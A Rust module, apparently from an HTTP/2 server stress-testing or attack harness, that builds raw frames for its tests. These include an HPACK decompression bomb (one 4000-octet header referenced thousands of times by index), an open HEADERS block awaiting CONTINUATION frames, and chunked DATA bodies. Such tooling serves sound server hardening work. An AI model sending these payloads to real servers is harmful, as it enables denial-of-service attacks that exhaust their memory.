//! The units of frames the attacks write, as octets: requests from the client's encoder, and
//! frames built by hand where an attack needs what no well-behaved encoder would send.

use protocol::h2::frame::{self, flags, Kind};
use protocol::h2::hpack::integer;
use protocol::h2::Reason;

use crate::client::{raw, Client};

/// The size of the field the HPACK bomb repeats: a quarter of a frame, so that one frame holds
/// the field and twelve thousand one-octet references to it.
pub const BOMB_VALUE: usize = 4000;

/// The `i`th client stream: 1, 3, 5, ... (RFC 9113 section 5.1.1).
pub fn stream(i: u64) -> u32 {
    u32::try_from(1 + 2 * i).unwrap_or(frame::MAX_STREAM_ID)
}

/// An error code as RST_STREAM carries it: four octets, network order.
pub fn reason(reason: Reason) -> [u8; 4] {
    reason.0.to_be_bytes()
}

/// HEADERS on stream 1 with a whole GET, END_STREAM, but no END_HEADERS: CONTINUATION follows.
pub fn open_block(client: &mut Client) -> Vec<u8> {
    let block = client.request_block("GET", "/");
    raw(Kind::HEADERS, flags::END_STREAM, 1, &block)
}

/// Unit `i` of a POST whose body comes as DATA frames of `data`: the HEADERS first, then one
/// frame per unit, the `last`th ending the stream.
pub fn data_unit(client: &mut Client, i: u64, last: u64, data: &[u8]) -> (Vec<u8>, u64) {
    match i {
        0 => (client.request(1, "POST", "/echo", false), 1),
        i if i == last => (raw(Kind::DATA, flags::END_STREAM, 1, data), 1),
        _ => (raw(Kind::DATA, 0, 1, data), 1),
    }
}

/// Unit 0 is the HEADERS frame with `block` on stream 1; unit 1 a GET on stream 3 without the
/// dynamic table (static entries and a literal not indexed).
pub fn bomb_or_get(i: u64, block: &[u8]) -> (Vec<u8>, u64) {
    let end = flags::END_HEADERS | flags::END_STREAM;
    match i {
        0 => (raw(Kind::HEADERS, end, 1, block), 1),
        // :method GET, :scheme https, :path /, :authority "a" (RFC 7541 appendix A, 6.2.2).
        _ => (
            raw(Kind::HEADERS, end, 3, &[0x82, 0x87, 0x84, 0x01, 0x01, b'a']),
            1,
        ),
    }
}

/// A GET whose block adds one [`BOMB_VALUE`]-octet field to the dynamic table and then names
/// it `references` more times by index, one octet each.
pub fn bomb_block(references: usize) -> Vec<u8> {
    // :method GET, :scheme https, :path / from the static table, :authority "a" not indexed,
    // then x-bomb as a literal with incremental indexing (RFC 7541 section 6.2.1).
    let mut block = vec![0x82, 0x87, 0x84, 0x01, 0x01, b'a', 0x40, 6];
    block.extend_from_slice(b"x-bomb");
    integer::encode(BOMB_VALUE, 7, 0x00, &mut block);
    block.extend(std::iter::repeat_n(b'b', BOMB_VALUE));
    // 0xbe: an indexed field (the high bit) naming index 62, the newest dynamic entry.
    block.extend(std::iter::repeat_n(0xbe, references));
    block
}
